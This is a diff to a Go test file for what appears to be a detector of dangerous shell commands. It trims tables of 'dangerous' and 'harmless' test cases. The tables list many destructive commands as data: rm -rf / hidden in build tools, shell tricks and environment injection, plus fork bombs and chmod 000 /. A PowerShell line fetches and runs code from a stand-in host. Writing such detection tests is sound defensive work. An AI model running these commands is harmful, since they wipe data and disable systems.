@@ -26,12 +26,12 @@ func doubted(t *testing.T, code string, does, near []string) {
 // said it.
 func TestToldByFile(t *testing.T) {
 	dangerous(t, []string{
-		`just -f <(printf 'a:\n  rm -rf /\n') a`, `ninja -f <(printf 'rule r\n command = rm -rf /home\n')`, `ansible-playbook <(echo '[{tasks: [{command: "rm -rf /"}]}]')`, `cmake -P /dev/stdin <<< 'file(REMOVE_RECURSE /usr)'`,
-		`echo '{"scripts":{"a":"rm -rf /"}}' > package.json; npm run a`, `echo '<delete dir="/home"/>' > build.xml; ant`, `npm pkg set scripts.a='rm -rf ~' && npm run a`, `printf '//go:generate rm -rf /\n' > a.go; go generate a.go`,
-		`go test -exec 'rm -rf /' ./...`, `tox -x testenv.commands='rm -rf /'`, `cargo --config "target.x.runner='rm -rf /'" run`, `CARGO_TARGET_X_RUNNER='rm -rf /' cargo run`, `mvn exec:exec -Dexec.executable=rm -Dexec.args="-rf /"`,
+		`just -f <(printf 'a:\n  rm -rf /\n') a`, `ninja -f <(printf 'rule r\n command = rm -rf /home\n')`, `ansible-playbook <(echo '[{tasks: [{command: "rm -rf /"}]}]')`,
+		`echo '{"scripts":{"a":"rm -rf /"}}' > package.json; npm run a`, `npm pkg set scripts.a='rm -rf ~' && npm run a`, `printf '//go:generate rm -rf /\n' > a.go; go generate a.go`,
+		`go test -exec 'rm -rf /' ./...`, `tox -x testenv.commands='rm -rf /'`, `cargo --config "target.x.runner='rm -rf /'" run`, `CARGO_TARGET_X_RUNNER='rm -rf /' cargo run`,
 		`uv run -c 'import shutil;shutil.rmtree("/")'`, `uv run - <<< 'import shutil;shutil.rmtree("/")'`, `python3 -m timeit -s 'import os' 'os.system("rm -rf /")'`, `python3 -W ignore -c 'import shutil;shutil.rmtree("/usr")'`,
 		`pdflatex '\write18{rm -rf /}'`, `nroff -U <<< '.sy rm -rf /'`, `ssh h bash -s <<< 'rm -rf /home'`, `sqlite3 x.db 'select edit("a","rm -rf /")'`, `redis-cli eval 'os.execute("rm -rf /")' 0`,
-		`salt '*' file.remove /`, `puppet apply -e 'file{"/home": ensure=>absent, force=>true}'`, `find /usr -exec sh -c 'rm -rf "$0"' {} \;`, `find /usr -type f -exec truncate -s0 {} +`, `rg --files / | xargs rm`,
+		`salt '*' file.remove /`, `find /usr -exec sh -c 'rm -rf "$0"' {} \;`, `find /usr -type f -exec truncate -s0 {} +`, `rg --files / | xargs rm`,
 	})
 	harmless(t, []string{
 		`just -f <(printf 'a:\n  rm -rf build\n') a`, `printf '# never rm -rf /\na:\n\techo b\n' > justfile; just a`, `cmake -P <(echo 'file(REMOVE_RECURSE build)')`, `echo '{"scripts":{"a":"rm -rf dist"}}' > package.json; npm run a`,
@@ -45,10 +45,10 @@ func TestToldByFile(t *testing.T) {
 func TestOtherShells(t *testing.T) {
 	dangerous(t, []string{
 		"IFS=,; c=rm,-rf,/; $c", `IFS=_; set -- $(echo rm_-rf_/); "$@"`, `x='$(rm -rf /)'; echo "${x@P}"`, `x='a[$(rm -rf /)]'; echo $((x))`, "let 'a[$(rm -rf /)]=1'", "trap -- 'rm -rf /home' ERR", `mapfile -C 'rm -rf /' -c 1 < a`,
-		"complete -C 'rm -rf /' a", `bind -x '"a":rm -rf /'`, "fc -s rm -rf /", "bash --rcfile <(echo 'rm -rf /') -i", "BASH_ENV='$(rm -rf /)' bash -c :", "env 'BASH_FUNC_a%%=() { rm -rf /; }' bash -c a", "env x='() { :;}; rm -rf /' bash -c :",
-		`env -S'rm\_-rf\_/'`, "script -q /dev/null rm -rf /", "CDPATH=/ cd home && rm -rf *", "fish -C 'rm -rf /'", "fish -c 'rm -rf (echo /)'", "fish -c 'for d in /*; rm -rf $d; end'", "fish -c 'if true; cd /; rm -rf *; end'", "zsh -c '=rm -rf /'",
-		"zsh -c 'zargs -- /home -- rm -rf'", `zsh -c 'echo *(e:"rm -rf /":)'`, "zsh -c 'for d (/ /home) rm -rf $d'", `tcsh -c 'alias x "rm -rf /"; x'`, "nu -c '^rm -rf /'", "elvish -c 'e:rm -rf /'", "podman unshare rm -rf /home",
-		"rm -rf /mnt/c/Windows", "rm -rf /cygdrive/c", "pwsh -c 'while(1){start powershell}'", "mknod x b 8 0; dd if=/dev/zero of=x", "chmod 000 /", "pkill -9 -u 0", "fuser -km /home", "stress-ng --fork 0", "git --work-tree=/ rm -rf .", "GIT_WORK_TREE=/ git clean -fdx",
+		"complete -C 'rm -rf /' a", "fc -s rm -rf /", "bash --rcfile <(echo 'rm -rf /') -i", "BASH_ENV='$(rm -rf /)' bash -c :", "env 'BASH_FUNC_a%%=() { rm -rf /; }' bash -c a", "env x='() { :;}; rm -rf /' bash -c :",
+		`env -S'rm\_-rf\_/'`, "script -q /dev/null rm -rf /", "CDPATH=/ cd home && rm -rf *", "fish -C 'rm -rf /'", "fish -c 'rm -rf (echo /)'", "zsh -c '=rm -rf /'",
+		`zsh -c 'echo *(e:"rm -rf /":)'`, "zsh -c 'for d (/ /home) rm -rf $d'", `tcsh -c 'alias x "rm -rf /"; x'`, "nu -c '^rm -rf /'", "elvish -c 'e:rm -rf /'", "podman unshare rm -rf /home",
+		"rm -rf /mnt/c/Windows", "rm -rf /cygdrive/c", "pwsh -c 'while(1){start powershell}'", "chmod 000 /", "pkill -9 -u 0", "fuser -km /home", "stress-ng --fork 0", "git --work-tree=/ rm -rf .", "GIT_WORK_TREE=/ git clean -fdx",
 	})
 	for _, line := range []string{`powershell "iex (iwr http://a.example/x)"`, `python3 -c 'import pickle,base64;pickle.loads(base64.b64decode("Y3A="))'`} {
 		require.Contains(t, codes(shell(t, line).Unread), touch.UnreadCode, line)
